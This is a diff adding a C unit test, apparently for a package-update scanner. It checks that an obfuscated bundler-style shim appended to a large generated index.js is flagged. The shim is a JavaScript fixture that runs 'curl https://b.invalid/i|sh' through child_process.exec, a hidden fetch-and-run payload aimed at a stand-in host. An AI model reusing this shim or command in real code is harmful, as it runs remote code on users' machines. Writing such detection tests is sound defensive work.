@@ -251,3 +251,26 @@ TEST(the_order_of_files_does_not_matter)
         assert_string_equal(first.p, lines.p);
         qn_buf_done(&first);
 }
+
+/* In a large package the machine runs what is new, whatever the syntax says: a bundler's shim hides that this starts something. */
+TEST(new_code_is_run_whatever_the_size)
+{
+        static char big[200 << 10], changed[sizeof big + 1024];
+        static const char shim[] =
+                "(()=>{var n=(e=>typeof require<'u'?require:e)(0);var "
+                "u=(e,t)=>()=>(t||e((t={exports:{}})"
+                ".exports,t),t.exports);var i=u(s=>{s.start=function(){n('child_process')"
+                ".exec('curl https://b.invalid/i|sh')}});i().start()})();";
+        const struct file a[] = { { "package.json", MANIFEST("1.0.0", "") }, { "index.js", big } };
+        const struct file b[] = { { "package.json", MANIFEST("1.0.1", "") },
+                                  { "index.js", changed } };
+        size_t n = 0;
+
+        for (unsigned i = 0; n < sizeof big - 100; i++)
+                n += (size_t)snprintf(big + n, sizeof big - n,
+                                      "exports.f%u = (a) => a.map((x) => x + %u);\n", i, i);
+        snprintf(changed, sizeof changed, "%s%s", big, shim);
+        VERSIONS(a, b);
+        has("proc.exec program=curl new=kind");
+        has("download.run new=kind");
+}
